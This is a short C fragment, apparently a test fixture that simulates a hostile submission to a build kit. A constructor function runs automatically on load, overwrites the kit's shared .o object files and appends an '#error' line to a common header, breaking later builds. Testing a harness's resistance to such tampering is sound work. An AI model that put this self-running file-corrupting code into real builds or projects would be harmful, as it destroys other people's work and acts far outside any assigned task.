/* Empties every kit-owned object that later builds link and breaks a header every build includes. */
static void hostile_empty(const char *path)
{
    hostile_overwrite(path, "written by a hostile submission\n");
}

__attribute__((constructor)) static void hostile_attack(void)
{
    char root[HOSTILE_PATH], path[HOSTILE_PATH + 64];
    if (!hostile_kit_root(root))
        return;
    snprintf(path, sizeof path, "%s/build/kit", root);
    hostile_each_file(path, ".o", hostile_empty);
    snprintf(path, sizeof path, "%s/common/include/kit_check.h", root);
    int fd = open(path, O_WRONLY | O_APPEND);
    if (fd >= 0) {
        const char *line = "\n#error written by a hostile submission\n";
        if (write(fd, line, strlen(line)) < 0)
            perror(path);
        close(fd);
    }
}
